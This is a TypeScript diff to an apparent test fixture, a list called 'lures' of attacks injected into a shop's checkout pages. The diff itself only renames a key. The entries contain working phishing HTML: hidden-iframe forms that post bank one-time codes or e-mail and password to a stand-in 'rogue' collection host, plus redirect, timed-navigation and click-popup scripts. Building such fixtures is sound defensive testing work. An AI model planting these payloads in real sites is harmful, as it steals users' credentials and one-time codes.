@@ -32,14 +32,14 @@ export const lures: readonly Attack[] = [
   {
     name: "a code prompt that is sent to a stranger",
     before: {
-      details: ({ rogue }) =>
+      checkout: ({ rogue }) =>
         `<form method="post" action="${rogue}/collect" target="drop"><label>One-time code from your bank <input name="trap_otp" autocomplete="one-time-code" required></label><button>Continue</button></form><iframe name="drop" style="width:9px;height:9px"></iframe>`,
     },
   },
   {
     name: "a sign-in that is sent to a stranger",
     instead: {
-      details: ({ rogue }) =>
+      checkout: ({ rogue }) =>
         `<h1>Sign in to go on</h1><form method="post" action="${rogue}/collect" target="drop"><label>E-mail <input type="email" name="login" required></label><label>Password <input type="password" name="trap_password" required></label><button>Sign in</button></form><iframe name="drop" style="width:9px;height:9px"></iframe>`,
     },
   },
@@ -47,18 +47,18 @@ export const lures: readonly Attack[] = [
     name: "a code prompt of a stranger after the order",
     redirect: { received: ({ rogue }) => `${rogue}/otp` },
   },
-  { name: "a cart that leads to a stranger", redirect: { details: ({ rogue }) => `${rogue}/checkout` } },
+  { name: "a cart that leads to a stranger", redirect: { checkout: ({ rogue }) => `${rogue}/checkout` } },
   {
     name: "a script that leaves for a stranger",
     after: {
-      details: ({ rogue }) =>
+      checkout: ({ rogue }) =>
         `<script>setTimeout(() => { location.href = "${rogue}/checkout"; }, 600);</script>`,
     },
   },
   {
     name: "a window of a stranger",
     after: {
-      details: ({ rogue }) =>
+      checkout: ({ rogue }) =>
         `<script>document.addEventListener("click", () => open("${rogue}/checkout"));</script>`,
     },
   },
